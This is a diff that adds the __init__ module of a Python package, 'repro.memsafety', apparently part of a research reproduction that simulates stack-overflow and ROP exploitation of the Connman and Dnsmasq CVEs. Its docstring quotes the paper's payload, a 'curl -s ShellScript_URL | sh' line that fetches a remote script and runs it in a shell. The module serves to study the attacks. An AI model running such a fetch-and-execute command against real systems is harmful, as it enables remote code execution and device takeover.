@@ -1,0 +1,46 @@
+"""repro.memsafety — the memory-error exploitation substrate.
+
+The paper's whole recruitment story (§III-A, research question R1) rests
+on stack-based buffer overflows: Connman's CVE-2017-12865 and Dnsmasq's
+CVE-2017-14493 let the Attacker smash a stack buffer from the network,
+pivot to a ROP chain (code injection and return-to-libc are assumed
+blocked by W^X per the attack model), and land in
+``execlp("sh", "sh", "-c", "curl -s ShellScript_URL | sh", NULL)``.
+
+This package provides the machinery to model that faithfully:
+
+* :mod:`repro.memsafety.layout` — a virtual address space with permissioned
+  regions and W^X enforcement;
+* :mod:`repro.memsafety.aslr` — address-space layout randomization slides;
+* :mod:`repro.memsafety.stack` — the vulnerable stack frame: a fixed-size
+  buffer, saved base pointer and saved return address that an unchecked
+  copy can clobber;
+* :mod:`repro.memsafety.rop` — gadget tables, the attacker-side chain
+  builder and the victim-side chain interpreter;
+* :mod:`repro.memsafety.syscalls` — the syscall surface a chain can reach.
+"""
+
+from repro.memsafety.aslr import aslr_slide
+from repro.memsafety.layout import AddressSpace, MemoryRegion, SegmentationFault
+from repro.memsafety.rop import (
+    ChainBuilder,
+    ChainInterpreter,
+    ExploitOutcome,
+    GadgetTable,
+)
+from repro.memsafety.stack import OverflowEvent, StackFrame
+from repro.memsafety.syscalls import SyscallInvocation
+
+__all__ = [
+    "AddressSpace",
+    "ChainBuilder",
+    "ChainInterpreter",
+    "ExploitOutcome",
+    "GadgetTable",
+    "MemoryRegion",
+    "OverflowEvent",
+    "SegmentationFault",
+    "StackFrame",
+    "SyscallInvocation",
+    "aslr_slide",
+]
